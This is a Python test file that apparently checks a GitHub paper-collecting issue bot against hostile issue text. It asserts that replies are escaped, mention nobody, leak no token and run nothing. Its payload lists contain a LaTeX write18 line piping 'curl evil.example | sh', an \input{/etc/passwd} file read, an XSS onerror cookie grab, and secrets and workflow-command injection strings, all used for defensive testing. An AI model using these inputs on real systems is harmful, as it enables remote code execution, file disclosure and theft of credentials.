"""Attacker-controlled issue text: the reply stays well-formed, pings nobody, runs nothing."""

from __future__ import annotations

import json
import re

from run_harness import BOT, LORA, comment_event, issue_event

from bot.issue.state import MARKER, decode_state

HOSTILE = [
    r"\input{/etc/passwd}",
    r"\immediate\write18{curl evil.example | sh}",
    "{{unbalanced {braces}",
    "@everyone @Codertocat please look",
    '<img src=x onerror="alert(document.cookie)">',
    "${{ secrets.GITHUB_TOKEN }}",
    "zero\u200bwidth and \u202eRTL override\u202c",
    "::set-output name=x::y",
    "::stop-commands::token",
]
HOSTILE_TITLES = [  # quoted titles the intake accepts, so they reach the reply
    "Scaling Laws for <img src=x onerror=alert(1)> Quokkas",
    "Zebras \u200bwith {unbalanced \\write18{x} \\input{/etc/passwd} ${{ secrets.GITHUB_TOKEN }} "
    "\u202ebraces",
]
HOSTILE_TITLE = "\\input{/etc/passwd} @everyone <img src=x onerror=alert(1)> ${{ github.token }}"
HOSTILE_NAME = "@everyone <img src=x onerror=alert(1)> \u202e"


def assert_inert(text: str) -> None:
    """No live mention, no raw HTML, no invisible characters."""
    assert not re.search(r"(?<![\w\u200b])@(?:everyone|Codertocat)", text)
    assert "<img" not in text and 'onerror="' not in text
    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069]", text.replace("@\u200b", "@"))


def assert_quiet_log(stdout: str) -> None:
    """The only workflow commands in the log are the bot's own annotations."""
    for line in stdout.splitlines():
        if line.startswith("::"):
            assert line.startswith(("::warning::", "::error::")), line
            assert "::" not in line.split("::", 2)[2], line


def test_hostile_title_and_body(harness):
    filler = "\n".join(["Some background on language models and their evaluation."] * 1200)
    titles = [f'"{title}"' for title in HOSTILE_TITLES]
    body = "\n\n".join(["Please add these papers:", *titles, *HOSTILE, filler])
    body = body[:65_000]
    assert len(body) == 65_000
    harness.fake.add_user("mallory", name=HOSTILE_NAME)
    payload = harness.seed(issue_event("opened", HOSTILE_TITLE, body, user="mallory"))

    run = harness.run_process("issues", payload)  # end to end

    assert run.returncode == 0, run.stdout + run.stderr
    [comment] = harness.fake.comments(1)
    text = comment["body"]
    assert text.startswith(MARKER) and len(text) < 65_536
    assert_inert(text)
    assert "root:" not in text  # nothing was read from the file system
    assert harness.fake.token not in text and harness.fake.token not in run.stdout
    assert "Scaling Laws for &lt;img src=x onerror=alert(1)&gt; Quokkas" in text
    assert r"\\input{/etc/passwd}" in text  # shown literally, Markdown-escaped
    # The profile name is never read (free text nobody confirmed): thanked by login.
    assert HOSTILE_NAME not in text and "**mallory** will be thanked" in text
    assert len(run.warnings) == 2  # the two titles cannot be identified (offline)
    assert decode_state(text).warning is None
    assert_quiet_log(run.stdout)
    assert_inert(run.summary)


def test_hostile_section_in_a_maintainers_command(triaged):
    harness, _ = triaged
    section = "<img src=x onerror=alert(1)> @everyone \\input{/etc/passwd} ${{ secrets.X }}"
    accept = comment_event(harness.fake, 1, f'/accept 1 section: "{section}"', user="maint")

    run = harness.run("issue_comment", accept)

    assert run.returncode == 0
    [comment, reply] = harness.bot_comments()
    assert not decode_state(comment["body"]).state.papers[0].accepted  # no such heading
    assert_inert(reply["body"])
    assert "&lt;img src=x onerror=alert(1)&gt; @\u200beveryone" in reply["body"]
    assert_quiet_log(run.stdout)


def test_invalid_utf8_in_the_event_file(harness):
    payload = harness.seed(issue_event("opened", "A paper", f"arXiv:{LORA} PLACEHOLDER"))
    raw = json.dumps(payload).encode().replace(b"PLACEHOLDER", b"caf\xe9 \xff\xfe broken")

    run = harness.run_process("issues", raw)  # end to end

    assert run.returncode == 0, run.stdout + run.stderr
    [comment] = harness.fake.comments(1)
    assert comment["user"]["login"] == BOT
    assert [p.verdict for p in decode_state(comment["body"]).state.papers] == ["new"]
